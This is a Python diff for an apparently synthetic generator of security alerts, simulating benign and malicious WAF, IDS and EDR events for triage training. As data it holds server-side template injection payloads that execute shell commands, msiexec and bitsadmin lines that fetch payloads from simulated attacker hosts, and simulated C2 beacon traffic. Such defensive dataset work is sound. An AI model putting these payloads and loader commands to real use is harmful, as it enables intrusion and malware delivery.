+def c2_beacon(rng: Random, site: Site) -> Built:
+    """Implant check-ins: TLS to random-looking domains with rare JA3, or small HTTP polls."""
+    world, src = site.world, _host(rng, site, 0.2)[1]
+    dest = (rng.choice(world.attackers)[0], rng.choice((443, 443, 8443, 80)))
+    roll = rng.random()
+    if roll < 0.6:
+        ja3 = rng.choice(world.rare_ja3 if rng.random() < 0.8 else world.common_ja3)
+        tls = (
+            "tls",
+            {
+                "sni": rng.choice(world.c2_domains),
+                "version": rng.choice(("TLS 1.2", "TLS 1.3")),
+                "ja3": {"hash": ja3},
+            },
+        )
+        return _ids(rng, TLS_RULE if rng.random() < 0.5 else JA3_RULE, src, dest, tls, "beacon")
+    if roll < 0.85:
+        path = rng.choice(BEACON_PATHS).format(h=hexs(rng, 16))
+        url = f"{path}?id={rng.randint(10**5, 10**9)}" if rng.random() < 0.4 else path
+        ua = rng.choice(C2_UAS) if rng.random() < 0.8 else f"Mozilla/5.0 ({hexs(rng, 8)})"
+        http = _http(
+            rng.choice(world.c2_domains),
+            url,
+            ua,
+            rng.choice(("GET", "POST")),
+            200,
+            rng.randint(0, 512),
+        )
+        return _ids(rng, ODD_UA_RULE, src, dest, http, "beacon")
+    host = rng.choice(world.payload_hosts).split(":")[0]
+    http = _http(
+        host,
+        f"/{rng.choice((word(rng), hexs(rng, 8)))}.{rng.choice(('exe', 'bin', 'dll'))}",
+        rng.choice(C2_UAS[3:]),
+        "GET",
+        200,
+        rng.randint(90000, 4000000),
+    )
+    return _ids(rng, EXE_RULE, src, dest, http, "bulk")
+
+
+# ---- drift, weeks 7-8 only ----------------------------------------------------------------------
+
+RMM_SCRIPTS = (
+    "Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID,FreeSpace,Size "
+    "| ConvertTo-Json -Compress",
+    "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First {n} | ConvertTo-Json",
+    "Get-Service -Name {w} -ErrorAction SilentlyContinue | Restart-Service -Force",
+    "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | "
+    "Select DisplayName,DisplayVersion | ConvertTo-Json -Compress",
+    "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\{w}' -Name AutoUpdate -Value {n}",
+    "Get-WinEvent -FilterHashtable @{LogName='System';Level=2} -MaxEvents {n} | ConvertTo-Json",
+    "Clear-RecycleBin -Force -ErrorAction SilentlyContinue; Get-PSDrive C | ConvertTo-Json",
+)
+
+
+def rmm_agent_new(rng: Random, site: Site) -> Built:
+    """A newly deployed RMM agent that runs its inventory scripts as -EncodedCommand (FP)."""
+    script = (
+        rng.choice(RMM_SCRIPTS).replace("{n}", str(rng.randint(3, 50))).replace("{w}", word(rng))
+    )
+    flags = "-NonInteractive -NoProfile -ExecutionPolicy Bypass -EncodedCommand"
+    cmd = f"powershell.exe {flags} {encode_powershell(script)}"
+    agent = (
+        f"C:\\Program Files (x86)\\{site.tenant}-{rng.randint(100000, 999999)}\\NinjaRMMAgent.exe"
+    )
+    parent = ("NinjaRMMAgent.exe", f'"{agent}" -service')
+    return "Suspicious PowerShell Execution", _edr(
+        rng, _host(rng, site, 0.3), POWERSHELL, cmd, SYSTEM, parent
+    )
+
+
+def lolbin_download_new(rng: Random, site: Site) -> Built:
+    """A new loader technique: msiexec or bitsadmin fetching a payload over HTTP (TP)."""
+    host, account, user, parent = _victim(rng, site)
+    if rng.random() < 0.55:
+        cmd = rng.choice(
+            (
+                f"msiexec.exe /q /i {payload_url(rng, site, 'msi')}",
+                f"msiexec /i {payload_url(rng, site, 'msi')} /quiet /qn /norestart",
+            )
+        )
+        return PROXY_RULE, _edr(rng, host, SYS32 + "msiexec.exe", cmd, user, parent)
+    job = rng.choice((word(rng), "update", "myjob", hexs(rng, 6)))
+    url, drop = payload_url(rng, site, "exe"), f"C:\\Users\\Public\\{word(rng)}.exe"
+    cmd = f"bitsadmin /transfer {job} /download /priority high {url} {drop}"
+    return PROXY_RULE, _edr(rng, host, SYS32 + "bitsadmin.exe", cmd, user, parent)
+
+
+def ssti_new(rng: Random, site: Site) -> Built:
+    """Server-side template injection from the internet, answered 200 (TP)."""
+    a, b = rng.randint(3, 99), rng.randint(3, 99)
+    payload = rng.choice(
+        (
+            f"{{{{{a}*{b}}}}}",
+            f"{{{{{a}*'{b}'}}}}",
+            f"${{{a}*{b}}}",
+            f"<%= {a}*{b} %>",
+            f"#{{{a}*{b}}}",
+            "{{config.items()}}",
+            "{{''.__class__.__mro__[1].__subclasses__()}}",
+            "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
+            "{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}",
+        )
+    )
+    ip = rng.choice(site.world.attackers)[0]
+    request = (rng.choice(("GET", "POST")), web_path(rng), _args(rng, payload), browser_ua(rng))
+    return "Remote Code Execution Attempt", _waf(rng, site, ip, request, 200, "934100")
+
+
+# ---- the weighted table -------------------------------------------------------------------------
+
+
+@dataclass(frozen=True, slots=True)
+class Scenario:
+    """A cause of alerts: how to draw one, its true verdict, how often, and at what times."""
+
+    name: str
+    source: str
+    verdict: str
+    weight: float
+    build: Callable[[Random, Site], Built]
+    profile: str = "flat"
+    drift: bool = False  # only in the last two weeks
+
+
+# Weights are relative and each time profile averages about 1 over a week. Weights are
+# normalised per hour, so off-hours lean towards the (flat) attacks: true false-positive
+# share is about 85%, about 83% once label noise has flipped some verdicts.
+SCENARIOS: tuple[Scenario, ...] = (
+    Scenario("scanner_waf", "waf", FP, 8, scanner_waf),
+    Scenario("scanner_ids", "ids", FP, 5, scanner_ids),
+    Scenario("patch_edr", "edr", FP, 5, patch_edr, "patch"),
+    Scenario("patch_ids", "ids", FP, 3, patch_ids, "patch"),
+    Scenario("backup_job", "edr", FP, 5, backup_job, "night"),
+    Scenario("admin_script", "edr", FP, 8, admin_script, "business"),
+    Scenario("webapp_helper", "edr", FP, 2, webapp_helper),
+    Scenario("monitoring_waf", "waf", FP, 4, monitoring_waf),
+    Scenario("monitoring_ids", "ids", FP, 3, monitoring_ids),
+    Scenario("saas_tls", "ids", FP, 3, saas_tls, "business"),
+    Scenario("av_reputation_dns", "ids", FP, 3, av_reputation_dns, "business"),
+    Scenario("dev_tools_ids", "ids", FP, 2.5, dev_tools_ids, "business"),
+    Scenario("dev_tools_waf", "waf", FP, 2, dev_tools_waf, "business"),
+    Scenario("dev_tools_edr", "edr", FP, 1.5, dev_tools_edr, "business"),
+    Scenario("benign_waf_trigger", "waf", FP, 4, benign_waf_trigger),
+    Scenario("password_typo", "auth", FP, 8, password_typo, "business"),
+    Scenario("expired_service_account", "auth", FP, 4, expired_service_account),
+    Scenario("internet_ssh_noise", "auth", FP, 3, internet_ssh_noise),
+    Scenario("encoded_powershell", "edr", TP, 1.9, encoded_powershell),
+    Scenario("lolbin", "edr", TP, 1.5, lolbin),
+    Scenario("webshell", "edr", TP, 1.1, webshell),
+    Scenario("ransomware_prep", "edr", TP, 0.45, ransomware_prep, "offhours"),
+    Scenario("web_injection", "waf", TP, 1.9, web_injection),
+    Scenario("log4shell_waf", "waf", TP, 1.0, log4shell_waf),
+    Scenario("log4shell_ids", "ids", TP, 0.7, log4shell_ids),
+    Scenario("password_spray", "auth", TP, 1.0, password_spray),
+    Scenario("dns_tunnel", "ids", TP, 0.8, dns_tunnel),
+    Scenario("c2_beacon", "ids", TP, 1.2, c2_beacon),
+    Scenario("rmm_agent_new", "edr", FP, 4, rmm_agent_new, drift=True),
+    Scenario("lolbin_download_new", "edr", TP, 0.9, lolbin_download_new, drift=True),
+    Scenario("ssti_new", "waf", TP, 0.9, ssti_new, drift=True),
+)
+DRIFT_SCENARIOS: tuple[str, ...] = tuple(s.name for s in SCENARIOS if s.drift)
+# Patch Tuesday: updates land Tuesday and Wednesday, stragglers later, little at weekends.
+PATCH_DAY_WEIGHT = (0.6, 2.5, 2.5, 0.6, 0.6, 0.2, 0.2)
+
+
+def time_weight(profile: str, hour: int, weekday: int) -> float:
+    """Multiplier on a scenario's weight at this UTC hour and weekday (0 = Monday)."""
+    office = weekday < 5 and 8 <= hour <= 18
+    if profile == "business":
+        return 2.2 if office else 0.42
+    if profile == "offhours":
+        return 0.3 if office else 1.34
+    if profile == "night":  # backup windows, 00:00-04:59
+        return 4.8 if hour <= 4 else 0.0
+    if profile == "patch":
+        return PATCH_DAY_WEIGHT[weekday]
+    return 1.0
